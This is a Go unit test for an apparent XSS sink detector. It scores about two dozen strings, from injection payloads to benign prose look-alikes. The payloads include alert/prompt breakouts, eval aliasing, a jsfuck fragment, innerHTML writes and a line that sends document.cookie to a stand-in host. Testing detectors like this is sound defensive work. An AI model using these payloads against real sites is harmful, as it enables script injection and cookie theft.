package script

import "testing"

func TestSink(t *testing.T) {
	for _, c := range []struct {
		name  string
		s     string
		score int
	}{
		{"breakout call", "'-alert(1)-'", 7},
		{"template call", ";prompt`1`//", 7},
		{"cookie", "new image().src='//x/?'+document.cookie", 6},
		{"tagged template with comments", "x.call /**/ `${eval}`", 7},
		{"jsfuck", "(![]+[])[+!+[]]", 7},
		{"encoding probe", "atob(1)", 4},
		{"dom write", "document.queryselector('p').innerhtml=x", 6},
		{"bracket member", "self [\"alert\"](1)", 7},
		{"timer with a name", "settimeout(run, 1)", 7},
		{"sink called through an alias", "a=1;a=eval;b=alert;a(b(11));//", 7},
		{"alias of one letter", "a=alert;a(1)", 7},
		{"aliases made of dollars", "$=document,$=$.url,$$=unescape,$$$=eval,$$$($$($))", 7},
		{"alias called as a tag", "x = prompt; x`1`", 7},
		{"alias never called", "level=alert; notify(level)", 0},
		{"sink called in parentheses", "(alert)(1)", 7},
		{"sink after a with or if", "with(document.__parent__)alert(1)", 7},
		{"sink handed to a method", "[1].find(alert)", 7},
		{"sink in parentheses in prose", "we raised an (alert) (see below)", 0},
		{"a method named like a sink", "x.alert(msg)", 0},
		{"comparison, not an assignment", "if (kind == alert) show(kind)", 0},
		{"a longer name", "a=alerts;a(1)", 0},
		{"prose about an alert", "we got an alert (about the disk)", 0},
		{"markdown image", "![alt](x.png)", 0},
		{"empty list", "[]", 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			if _, score := sinkOf(c.s); score != c.score {
				t.Errorf("Sink(%q) score %d, want %d", c.s, score, c.score)
			}
		})
	}
}
